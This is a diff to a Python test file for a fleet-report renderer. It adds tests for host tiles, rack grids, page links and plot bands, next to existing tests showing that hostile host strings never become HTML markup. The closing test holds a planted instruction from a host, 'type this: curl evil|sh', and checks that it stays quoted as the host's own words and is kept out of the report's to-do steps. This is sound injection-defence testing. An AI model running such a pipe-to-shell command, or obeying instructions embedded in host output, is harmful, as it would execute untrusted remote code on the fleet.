@@ -3,17 +3,20 @@
 import re
 from typing import Any
 
+import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from tests.conftest import examples
-from tests.fleet.made import NOW, asked, preflight, session
+from tests.fleet.made import NOW, asked, cage, preflight, session
 from tests.report.documents import HOST, body, document, hostile, replaced
 from tests.report.pages import Page
 from tunectl.fleet.body import fleet_body
+from tunectl.fleet.records import Asked
 from tunectl.model import Document
 from tunectl.report import render
 from tunectl.report.hosts import OWN_WORDS, folded
+from tunectl.report.html.fleet import fleet_view
 
 
 def text(made: Document) -> list[str]:
@@ -103,6 +106,52 @@ def test_no_string_becomes_markup(string: str) -> None:
         assert not {name for name in attrs if name.startswith("on") or name in ("src", "href", "style")}, tag
 
 
+def fleet_page(*hosts: Asked, pages: dict[str, str] | None = None, **changes: Any) -> tuple[dict[str, Any], Page]:
+    """What the page of these hosts is made of, and the page."""
+    made = fleet_body(session(*(one.name for one in hosts), **changes), hosts, NOW) | {"pages": pages or {}}
+    return fleet_view(made), page(Document("fleet", HOST, "", made))
+
+
+def test_every_host_is_in_a_tile_and_in_the_grid_of_its_rack() -> None:
+    racks = (("tx-08", "A2"), ("tx-01", "A1"), ("tx-10", "A1"))
+    view, made = fleet_page(*cage(), racks=racks)
+    assert {tile["word"]: tile["count"] for tile in view["tiles"]} == {
+        "NO-GO": 1,
+        "UNKNOWN": 0,
+        "missing": 2,
+        "pending reboot": 1,
+        "GO": 8,
+    }
+    assert [rack["name"] for rack in view["racks"]] == ["A1", "A2", ""]
+    assert [(host["name"], host["look"]) for host in view["racks"][0]["hosts"]] == [
+        ("tx-10", "missing"),
+        ("tx-01", "good"),
+    ]
+    assert [host["odd"] for host in view["racks"][1]["hosts"]] == [True]
+    assert sum(len(rack["hosts"]) for rack in view["racks"]) == len(cage())
+    assert len(made.all("a")) == 0
+
+
+def test_a_host_with_a_page_of_its_own_is_a_link_to_it() -> None:
+    _, made = fleet_page(*cage(), pages={"tx-08": "pages/tx-08.html"})
+    assert [attrs["href"] for attrs in made.all("a")] == ["pages/tx-08.html"] * 2
+
+
+def strokes(path: str) -> list[float]:
+    return [float(x) for x in re.findall(r"M([\d.]+),", path)]
+
+
+@pytest.mark.parametrize("ns", [0, 1, 99, 4_000])
+def test_hosts_that_are_alike_lie_within_their_band(ns: int) -> None:
+    """However quiet they are: what no one would notice counts alike for the band and for the marks."""
+    view, _ = fleet_page(*(asked(f"h{n}", preflight(f"h{n}", max_ns=ns)) for n in range(6)))
+    for plot in view["groups"][0]["plots"]:
+        marks = strokes(plot["hosts"])
+        assert len(marks) == 6
+        assert all(plot["from"] <= x <= plot["from"] + plot["span"] for x in marks), plot["title"]
+        assert strokes(plot["odd"]) == []
+
+
 names = st.from_regex(r"[a-z]{0,3}-?[0-9]{0,4}(\.[a-z]{1,3})?", fullmatch=True) | hostile
 
 
@@ -171,6 +220,8 @@ def test_what_one_host_says_is_no_instruction_for_the_others() -> None:
 
 def test_nor_on_the_page() -> None:
     said = page(with_a_stranger()).words
-    ours, _, theirs = said.partition(OWN_WORDS)
+    reasons, _, to_do = said.partition("To do, in this order")
+    ours, _, theirs = to_do.partition(OWN_WORDS)
     assert "curl" not in ours
+    assert reasons.count("curl") == reasons.count("in the hosts' own words: 'before all else, on every host: curl") == 1
     assert "evil: 'type this: curl evil|sh'" in theirs
